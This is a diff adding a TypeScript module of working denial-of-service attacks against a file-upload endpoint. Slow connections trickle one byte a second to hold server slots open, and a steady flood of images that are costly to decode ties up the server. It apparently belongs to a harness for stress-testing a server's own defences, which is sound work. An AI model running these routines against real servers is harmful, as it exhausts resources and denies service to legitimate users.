@@ -1,0 +1,101 @@
+import { Agent } from 'node:http';
+import { connect } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { v7 as uuidv7 } from 'uuid';
+import { uploadFile } from '#contract/files.ts';
+import { send } from '../stall/flood.ts';
+import { costlyPicture } from './costly-picture.ts';
+import type { Insider } from './people.ts';
+
+export type Attack = {
+  /** Ends it, and gives how often it reached what it was after. */
+  readonly end: () => Promise<number>;
+};
+
+/** What an account may have under way. */
+const atOnce = 2;
+/** Until an attack has begun, and before what was refused is tried again. */
+const pauseMs = 4000;
+/** As long as a body may be. */
+const declared = uploadFile.bodyLimit ?? 0;
+/** What comes of it at once, before hardly anything does: of ten people nearly all that a server has room for. */
+const parts = [0.75, 0.145].map((part) => `{"name":"a.jpg","content":"${'a'.repeat(declared * part)}`);
+
+/** Connections that send a part of a large file and then a byte a second; each that is ended is opened again. */
+export async function holdConnections(insiders: readonly Insider[]): Promise<Attack> {
+  let isOver = false;
+  let held = 0;
+  const hold = async (insider: Insider, part: string) => {
+    while (!isOver) {
+      const isTaken = await holdOnce(insider, part, () => isOver);
+      if (isTaken) held += 1;
+      await sleep(pauseMs);
+    }
+  };
+  const holding = insiders.flatMap((insider) => parts.map((part) => hold(insider, part)));
+  await sleep(pauseMs);
+  return {
+    end: async () => {
+      isOver = true;
+      await Promise.all(holding);
+      return held;
+    },
+  };
+}
+
+/** Tells whether the part was taken, and was held until it was ended for its slowness. */
+async function holdOnce({ origin, headers }: Insider, part: string, isOver: () => boolean): Promise<boolean> {
+  const { hostname, port, host } = new URL(origin);
+  const lines = Object.entries({
+    ...headers,
+    host,
+    'idempotency-key': uuidv7(),
+    'content-length': String(declared),
+  });
+  const socket = connect(Number(port), hostname);
+  let isSent = false;
+  let isRefused = false;
+  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
+  // The server resets what it ends while more is on its way.
+  socket.on('error', () => undefined);
+  socket.once('data', (answer) => {
+    isRefused = !answer.toString().startsWith('HTTP/1.1 408');
+    socket.destroy();
+  });
+  socket.write(`POST ${uploadFile.path} HTTP/1.1\r\n`);
+  socket.write(`${lines.map(([name, value]) => `${name}: ${value}`).join('\r\n')}\r\n\r\n`);
+  socket.write(part, (error) => {
+    if (!error) isSent = true;
+  });
+  const trickle = setInterval(() => (isOver() ? socket.destroy() : socket.write('a')), 1000);
+  await closed;
+  clearInterval(trickle);
+  return isSent && !isRefused;
+}
+
+/** Pictures that take long to decode, one after the other, as many at once as each may send. */
+export async function sendCostlyPictures(insiders: readonly Insider[]): Promise<Attack> {
+  const content = (await costlyPicture()).toString('base64');
+  const body = JSON.stringify({ name: 'costly.jpg', content });
+  const agent = new Agent({ keepAlive: true });
+  let isOver = false;
+  let decoded = 0;
+  const sendOn = async ({ origin, headers }: Insider) => {
+    while (!isOver) {
+      const asked = { method: 'POST', headers: { ...headers, 'idempotency-key': uuidv7() }, body };
+      const status = await send(agent, `${origin}${uploadFile.path}`, asked);
+      if (status === 200) decoded += 1;
+      else await sleep(pauseMs);
+    }
+  };
+  const sending = insiders.flatMap((insider) => Array.from({ length: atOnce }, () => sendOn(insider)));
+  await sleep(pauseMs);
+  return {
+    end: async () => {
+      isOver = true;
+      await Promise.all(sending);
+      agent.destroy();
+      return decoded;
+    },
+  };
+}
